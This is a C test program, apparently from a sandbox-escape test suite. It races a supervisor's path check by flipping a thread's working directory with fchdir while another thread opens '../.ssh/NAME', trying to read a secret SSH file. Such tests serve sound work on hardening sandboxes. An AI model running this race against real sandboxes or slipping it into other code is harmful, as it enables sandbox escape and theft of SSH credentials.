/* e0203-cwd-race - race on the working directory of a relative path.
 *
 * Attack: threads share one working directory.  One thread opens the
 * relative path "../.ssh/NAME" again and again; another switches the
 * working directory (fchdir) between a decoy tree, where that path is an
 * allowed decoy file, and a directory in $HOME, where it is the secret.
 * The supervisor resolves the relative path against the directory it sees
 * when it checks; the kernel against the one current when it looks up.
 * Needs $HOME inside the jail's tree (the driver arranges it).
 * Source: Garfinkel 2003, "Traps and Pitfalls" (relative paths and the
 * current working directory of a multi-threaded process).
 * Usage: e0203-cwd-race SECRET   (SECRET is HOME/.ssh/NAME) */
#include <fcntl.h>
#include <libgen.h>
#include <limits.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "escape.h"

static int fd_decoy, fd_home;
static volatile int stop;

static void *switcher(void *arg)
{
	(void)arg;
	while (!stop) {
		fchdir(fd_home);
		fchdir(fd_decoy);
	}
	return NULL;
}

int main(int argc, char **argv)
{
	esc_need_args(argc, 2, "e0203-cwd-race SECRET");
	char a[PATH_MAX], b[PATH_MAX], c[PATH_MAX], p[PATH_MAX * 3];
	snprintf(a, sizeof a, "%s", argv[1]);
	snprintf(b, sizeof b, "%s", argv[1]);
	snprintf(c, sizeof c, "%s", argv[1]);
	const char *name = basename(a);			/* NAME */
	char *ssh = dirname(b);				/* HOME/.ssh */
	const char *sshname = basename(ssh);		/* .ssh */
	char *home = dirname(dirname(c));		/* HOME */
	char rel[PATH_MAX];
	snprintf(rel, sizeof rel, "../%s/%s", sshname, name);

	/* The decoy tree: e0203-decoy/.ssh/NAME and e0203-decoy/sub. */
	mkdir("e0203-decoy", 0755);
	snprintf(p, sizeof p, "e0203-decoy/%s", sshname);
	mkdir(p, 0755);
	snprintf(p, sizeof p, "e0203-decoy/%s/%s", sshname, name);
	FILE *f = fopen(p, "w");
	if (!f)
		esc_die(p);
	fputs("decoy\n", f);
	fclose(f);
	mkdir("e0203-decoy/sub", 0755);
	fd_decoy = open("e0203-decoy/sub", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	snprintf(p, sizeof p, "%s/e0203-sub", home);
	mkdir(p, 0755);
	fd_home = open(p, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (fd_decoy < 0 || fd_home < 0)
		esc_die("open the two working directories");
	if (fchdir(fd_decoy) < 0)
		esc_die("fchdir");
	pthread_t t;
	if (pthread_create(&t, NULL, switcher, NULL) != 0)
		esc_die("pthread_create");
	esc_race_open("open of a relative path while the cwd flips", rel, "decoy\n");
	stop = 1;
	pthread_join(t, NULL);
	return 0;
}
